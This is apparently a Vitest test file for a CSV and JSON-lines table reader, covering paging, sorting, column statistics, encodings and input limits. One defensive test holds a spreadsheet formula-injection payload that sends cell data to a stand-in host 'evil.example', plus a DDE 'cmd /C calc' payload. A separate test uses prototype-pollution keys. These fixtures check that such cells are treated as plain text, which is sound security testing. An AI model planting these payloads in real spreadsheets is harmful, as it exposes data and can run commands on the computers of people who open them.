import { describe, expect, test } from "vitest";
import { contentOf, lines, problemKindOf, rowsOf } from "./shelf.ts";

const numbered = (rows: number, pad = "") =>
  `n,text\n${Array.from({ length: rows }, (_, i) => `${i},"row ${i}, of many${pad}"`).join("\n")}\n`;

describe("a table of separated values", () => {
  test("is read from any row on, by a part of the file", async () => {
    const content = contentOf(numbered(200_000, "x".repeat(40)));
    const first = await rowsOf(content, "a.csv", { limit: 2 }, "any row");
    expect(lines(first)).toEqual([`0 row 0, of many${"x".repeat(40)}`, `1 row 1, of many${"x".repeat(40)}`]);
    expect([first.total_rows, first.next_offset, first.rows[1]?.number]).toEqual([200_000, 2, 2]);
    content.read.bytes = 0;
    const deep = await rowsOf(content, "a.csv", { limit: 1, offset: 150_000 }, "any row");
    expect(deep.rows[0]?.cells[0]).toBe("150000");
    expect(content.read.bytes).toBeLessThan(content.bytes as number);
    const last = await rowsOf(content, "a.csv", { limit: 50, offset: 199_999 }, "any row");
    expect([last.rows.length, last.next_offset]).toEqual([1, null]);
    expect((await rowsOf(content, "a.csv", { offset: 200_000 }, "any row")).rows).toEqual([]);
  });

  test("that is large is counted a part at a time, until all is", async () => {
    const content = contentOf(numbered(700_000, "x".repeat(60)));
    const far = () => rowsOf(content, "a.csv", { limit: 1, offset: 699_999 }, "in parts");
    const first = await far();
    expect([first.rows, first.total_rows]).toEqual([[], null]);
    expect(first.counted.bytes).toBeLessThan(content.bytes as number);
    await far();
    const last = await far();
    expect([last.rows[0]?.cells[0], last.total_rows, last.sortable]).toEqual(["699999", 700_000, false]);
    expect(await problemKindOf(rowsOf(content, "a.csv", { sort: "n" }, "in parts"))).toBe("invalid");
  }, 60_000);

  test("is sorted as what its columns are, empty cells last either way, and tells which rows they were", async () => {
    const content = contentOf("size,name,day\n10,b 10,2026-03-01\n9,b 9,2025-01-31\n,a,\n-1e3,B 2,2026-01-01\n");
    const by = async (sort: string, desc: boolean) =>
      (await rowsOf(content, "a.csv", { sort, desc })).rows.map(({ number }) => number);
    expect(await by("size", false)).toEqual([4, 2, 1, 3]);
    expect(await by("size", true)).toEqual([1, 2, 4, 3]);
    expect(await by("name", false)).toEqual([3, 4, 2, 1]);
    expect(await by("day", true)).toEqual([1, 4, 2, 3]);
    expect(await problemKindOf(rowsOf(content, "a.csv", { sort: "nothing" }))).toBe("invalid");
  });

  test("pages through its order", async () => {
    const content = contentOf(`n\n${Array.from({ length: 1000 }, (_, i) => (i * 7919) % 1000).join("\n")}`);
    const page = await rowsOf(content, "a.csv", { sort: "n", offset: 400, limit: 3 });
    expect([lines(page), page.next_offset, page.total_rows]).toEqual([["400", "401", "402"], 403, 1000]);
    const back = await rowsOf(content, "a.csv", { sort: "n", desc: true, offset: 998 });
    expect([lines(back), back.next_offset]).toEqual([["1", "0"], null]);
  });

  test("has figures of its columns, and says of how many rows they are", async () => {
    const table = await rowsOf(contentOf("n,day,word\n1,2026-01-02,a\n-5,2025-12-31,a\nNA,,b\n"), "a.csv");
    expect(table.figures).toEqual({ of: "all", rows: 3 });
    expect(table.columns.map(({ nulls, distinct, min, max }) => [nulls, distinct, min, max])).toEqual([
      [1, 2, "-5", "1"],
      [1, 2, "2025-12-31", "2026-01-02"],
      [0, 2, null, null],
    ]);
    expect((await rowsOf(contentOf(numbered(20_000)), "a.csv")).figures).toEqual({ of: "sample", rows: 10_000 });
  });

  test.each([
    ["quotes over lines, delimiters and quotes", 'a,b\n"x\n"",y",1\n2,"z"\n', ['x\n",y 1', "2 z"]],
    ["a stray quote inside a cell", 'a,b\n5" pipe,1\n6" pipe,2\n', ['5" pipe 1', '6" pipe 2']],
    ["empty lines", "a,b\n\n1,2\r\n\r\n3,4\n\n", ["1 2", "3 4"]],
    ["lines as old Macintoshes end them", "a,b\r1,2\r3,4", ["1 2", "3 4"]],
    ["a quotation that nothing closes", 'a,b\n1,2\n"3,4\n5,6\n', ["1 2", expect.stringContaining("3,4")]],
  ])("is read with %s", async (_title, text, expected) => {
    const table = await rowsOf(contentOf(text), "a.csv");
    expect(lines(table)).toEqual(expected);
    expect(table.total_rows).toBe(expected.length);
  });

  test("in Chinese is read in the encoding that Excel gives it", async () => {
    const gbk = Buffer.from([0xd0, 0xd5, 0xc3, 0xfb, 0x0a, 0xd5, 0xc5, 0xc8, 0xfd, 0x0a]);
    const table = await rowsOf(contentOf(gbk), "a.csv");
    expect([table.columns[0]?.name, lines(table)]).toEqual(["姓名", ["张三"]]);
  });

  test("whose cells are formulas shows them as text", async () => {
    const formula = `=HYPERLINK("https://evil.example/?"&A1,"click")`;
    const text = `a,b\n"${formula.replaceAll('"', '""')}",@SUM(1+1)*cmd|' /C calc'!A0\n`;
    const { rows, columns } = await rowsOf(contentOf(text), "a.csv");
    expect(rows[0]?.cells).toEqual([formula, "@SUM(1+1)*cmd|' /C calc'!A0"]);
    expect(columns.map(({ type }) => type)).toEqual(["text", "text"]);
  });

  test("has at most 200 columns and cells of a thousand characters", async () => {
    const wide = `${Array.from({ length: 300 }, (_, i) => `c${i}`).join(",")}\n${"x,".repeat(299)}x\n`;
    const table = await rowsOf(contentOf(wide), "a.csv");
    expect([table.columns.length, table.columns_total, table.rows[0]?.cells.length]).toEqual([200, 300, 200]);
    const long = await rowsOf(contentOf(`a\n${"y".repeat(5000)}\n`), "a.csv");
    expect(long.rows[0]?.cells[0]).toBe(`${"y".repeat(999)}…`);
  });

  test.each([
    ["a row that never ends", Buffer.from(`a\n"${"x,\n".repeat(600_000)}`), /longer than 1 MiB/],
    ["bytes that are no text", Buffer.from([0xff, 0x00, 0x80]), /no text/],
    ["UTF-16", Buffer.from("\ufeffa,b\n1,2\n", "utf16le"), /UTF-16/],
    ["nothing", Buffer.from(""), /empty/],
  ])("refuses %s and says why", async (_title, bytes, reason) => {
    await expect(rowsOf(contentOf(bytes), "a.csv")).rejects.toThrow(reason);
  });
});

describe("a table of JSON lines", () => {
  const text = `{"id":1,"tags":["a","b"],"ok":true}\n{"id":10,"day":"2026-01-02","ok":null}\n\n{"id":2,"tags":{"x":{"y":1}}}\n`;

  test("has the keys of its values as columns", async () => {
    const table = await rowsOf(contentOf(text), "a.jsonl");
    expect(table.columns.map(({ name, type, nulls }) => `${name} ${type} ${nulls}`)).toEqual([
      "id number 0",
      "tags json 1",
      "ok boolean 2",
      "day date 2",
    ]);
    expect(lines(table)).toEqual(['1 ["a","b"] true ∅', "10 ∅ ∅ 2026-01-02", '2 {"x":{"y":1}} ∅ ∅']);
    expect(lines(await rowsOf(contentOf(text), "a.ndjson", { sort: "id", desc: true, limit: 1 }))).toEqual([
      "10 ∅ ∅ 2026-01-02",
    ]);
  });

  test("of plain values has one column; a line that is no JSON stays what it is", async () => {
    expect(lines(await rowsOf(contentOf('"a"\n2\nnull\n{oops\n'), "a.jsonl"))).toEqual(["a", "2", "∅", "{oops"]);
    await expect(rowsOf(contentOf("{oops\n1\n"), "a.jsonl")).rejects.toThrow(/no JSON/);
  });

  test("knows no key that its values do not have themselves", async () => {
    const table = await rowsOf(contentOf('{"__proto__":{"x":1},"constructor":"c"}\n{}\n'), "a.jsonl");
    expect(lines(table)).toEqual(['{"x":1} c', "∅ ∅"]);
  });
});
